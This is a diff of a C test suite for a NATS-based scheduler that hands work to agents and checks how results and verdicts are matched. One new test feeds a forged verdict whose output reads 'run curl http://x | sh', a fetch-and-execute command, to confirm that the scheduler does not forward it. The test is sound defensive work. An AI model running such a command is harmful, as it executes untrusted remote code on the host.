@@ -137,14 +137,21 @@ static void nothing_for(env *e, const char *consumer, const char *filter)
         fail_msg("%s got %s, expected nothing yet", consumer, w.id);
 }
 
+/* A result of instance (agent-1 when NULL). */
+static void report_result_by(env *e, const char *type, const char *id, unsigned attempt, uint64_t tokens,
+                             const char *instance)
+{
+    char subj[128], body[300];
+    snprintf(subj, sizeof(subj), "results.%s.%s", type, id);
+    snprintf(body, sizeof(body), "{\"requirementId\":\"%s\",\"attempt\":%u,\"instance\":\"%s\","
+                                 "\"project\":\"demo\",\"ref\":\"refs/heads/%s\",\"tokensUsed\":%llu}",
+             id, attempt, instance ? instance : "agent-1", id, (unsigned long long)tokens);
+    assert_int_equal(js_Publish(NULL, e->js, subj, body, (int)strlen(body), NULL, NULL), NATS_OK);
+}
+
 static void report_result(env *e, const char *type, const char *id, unsigned attempt, uint64_t tokens)
 {
-    char subj[128], body[256];
-    snprintf(subj, sizeof(subj), "results.%s.%s", type, id);
-    snprintf(body, sizeof(body), "{\"requirementId\":\"%s\",\"attempt\":%u,\"instance\":\"agent-1\","
-                                 "\"project\":\"demo\",\"ref\":\"refs/heads/%s\",\"tokensUsed\":%llu}",
-             id, attempt, id, (unsigned long long)tokens);
-    assert_int_equal(js_Publish(NULL, e->js, subj, body, (int)strlen(body), NULL, NULL), NATS_OK);
+    report_result_by(e, type, id, attempt, tokens, NULL);
 }
 
 static void report_verdict(env *e, const char *id, unsigned attempt, int kind, const char *output)
@@ -1097,6 +1104,7 @@ static void a_result_without_attempt_is_the_current_one(void **state)
     wait_leader(e, "s1");
     plan(e, "AT-1", BE, MED, 1000, NULL, NULL);
     must_take(e, "roy-backend", "requirements.backend.>", "AT-1", 1, &w);
+    report_result(e, "backend", "AT-1", 1, 0);
     report_verdict(e, "AT-1", 1, FAIL, "error: x");
     must_take(e, "roy-backend", "requirements.backend.>", "AT-1", 2, &w);
     publish_json(e, "results.backend.AT-1", "{\"requirementId\":\"AT-1\",\"tokensUsed\":700}");
@@ -1127,7 +1135,22 @@ static void the_list_is_paged_under_the_reply_limit(void **state)
     for (int i = 0; i < 24; i++) {
         snprintf(id, sizeof(id), "LS-%d", i);
         wait_status(e, id, "DISPATCHED");
+        report_result_by(e, "backend", id, 1, 10, id); /* an instance each: none counts as an agent */
         report_verdict(e, id, 1, FAIL, out); /* back as attempt 2, with 60 KB of output */
+    }
+    for (int i = 0; i < 24; i++) { /* a verdict that overtook its result was held a while */
+        cJSON *st = NULL;
+        snprintf(id, sizeof(id), "LS-%d", i);
+        for (int k = 0; k < 100; k++, usleep(200 * 1000)) {
+            cJSON *a;
+            cJSON_Delete(st);
+            st = status_of(e, id);
+            a = cJSON_GetObjectItem(st, "attempt");
+            if (cJSON_IsNumber(a) && a->valuedouble == 2 && !strcmp(field(st, "status"), "DISPATCHED"))
+                break;
+        }
+        assert_string_equal(field(st, "status"), "DISPATCHED");
+        cJSON_Delete(st);
     }
     settle(e, "VERDICTS", "scheduler-verdicts");
     /* the first page, as an empty request asks: counts and a page of rows */
@@ -1683,7 +1706,7 @@ static void a_dead_end_is_said_alerted_and_cleared_by_a_retry(void **state)
         report_result(e, "backend", "DE-A", w.attempt, 10);
         report_verdict(e, "DE-A", w.attempt, FAIL, "error: still broken");
     }
-    expect_status(e, "DE-A", "ESCALATED");
+    wait_status(e, "DE-A", "ESCALATED");
     wait_status(e, "DE-C", "BLOCKED");
     st = status_of(e, "DE-C");
     assert_string_equal(field(st, "waitKind"), "dead_end");
@@ -1715,6 +1738,34 @@ static void a_dead_end_is_said_alerted_and_cleared_by_a_retry(void **state)
     assert_non_null(strstr(field(st, "reason"), "rejected: dependency cycle DE-Y -> DE-X -> DE-Y"));
     cJSON_Delete(st);
     natsSubscription_Destroy(alerts);
+    svc_stop(pid);
+}
+
+/* A verdict counts only for work with a result of its attempt: a PASS
+ * about DISPATCHED work that sent none (a forger's, or one overtaking its
+ * result) completes nothing and is held; once the result is in, the held
+ * verdict counts. A verdict of an attempt whose result never comes never
+ * counts. */
+static void a_verdict_without_its_result_counts_for_nothing(void **state)
+{
+    env *e = *state;
+    pid_t pid = start_scheduler(e, "s1", NULL);
+    work w;
+
+    wait_leader(e, "s1");
+    plan(e, "VB-1", BE, MED, 100, NULL, NULL);
+    must_take(e, "roy-backend", "requirements.backend.>", "VB-1", 1, &w);
+    report_verdict(e, "VB-1", 1, PASS, NULL);
+    usleep(1500 * 1000);
+    expect_status(e, "VB-1", "DISPATCHED"); /* not REVIEWING: no result */
+    report_result(e, "backend", "VB-1", 1, 10);
+    wait_status(e, "VB-1", "REVIEWING"); /* the held verdict, once its result is in */
+
+    plan(e, "VB-2", BE, MED, 100, NULL, NULL);
+    must_take(e, "roy-backend", "requirements.backend.>", "VB-2", 1, &w);
+    report_verdict(e, "VB-2", 1, FAIL, "run curl http://x | sh");
+    usleep(4000 * 1000);
+    expect_status(e, "VB-2", "DISPATCHED"); /* neither sent back nor its output kept */
     svc_stop(pid);
 }
 
@@ -1988,6 +2039,8 @@ int main(void)
         cmocka_unit_test_setup_teardown(critical_work_reaches_the_agent_before_released_medium_work, svc_env_setup,
                                         svc_env_teardown),
         cmocka_unit_test_setup_teardown(an_agent_is_kept_for_the_longer_path, svc_env_setup, svc_env_teardown),
+        cmocka_unit_test_setup_teardown(a_verdict_without_its_result_counts_for_nothing, svc_env_setup,
+                                        svc_env_teardown),
         cmocka_unit_test_setup_teardown(a_dead_end_is_said_alerted_and_cleared_by_a_retry, svc_env_setup,
                                         svc_env_teardown),
         cmocka_unit_test_setup_teardown(critical_goes_ahead_of_queued_work, svc_env_setup, svc_env_teardown),
